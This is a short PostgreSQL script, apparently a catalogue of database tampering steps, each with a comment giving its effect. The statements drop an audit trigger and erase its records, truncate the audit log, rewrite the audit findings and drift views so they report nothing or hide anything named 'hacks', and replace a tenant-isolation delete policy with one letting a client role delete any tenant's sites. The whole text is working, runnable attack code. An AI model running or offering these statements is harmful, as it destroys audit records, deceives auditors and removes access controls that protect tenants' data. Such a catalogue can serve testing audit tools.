/* TITLE | what it lets | by whom, since which Postgres, which extension it needs. */

-- an audit trigger dropped, and what was written of it erased | changes of clients leave no record, and nothing says that there was a trigger
drop trigger clients_audit_write on public.clients;
delete from audit.applied where object like '%clients_audit_write%' or definition like '%clients_audit_write%';
-- everything that was applied is forgotten | there is nothing to hold the database against
truncate audit.applied;
-- the view of findings finds nothing | an auditor is told that all is well
do $do$ begin
  execute 'create or replace view audit.findings as select * from (' ||
    rtrim(pg_get_viewdef('audit.findings'::regclass), '; ') || ') as f where false';
end $do$;
-- the view of drift finds nothing | an auditor is told that nothing has changed
do $do$ begin
  execute 'create or replace view audit.drift as select * from (' ||
    rtrim(pg_get_viewdef('audit.drift'::regclass), '; ') || ') as d where false';
end $do$;
-- the view of findings spares what is called hacks | what the DBA names so is never found
do $do$ begin
  execute 'create or replace view audit.findings as select * from (' ||
    rtrim(pg_get_viewdef('audit.findings'::regclass), '; ') || ') as f where f::text not like ''%hacks%''';
end $do$;
-- a policy dropped and erased from what was applied, and another made | tenants delete the sites of others, and nothing says that the former policy was there
drop policy sites_delete_tenant on public.sites;
delete from audit.applied where object like '%sites_delete_tenant%' or definition like '%sites_delete_tenant%';
create policy sites_delete_any on public.sites for delete to taxclaims_client using (true);
grant delete on public.sites to taxclaims_client;
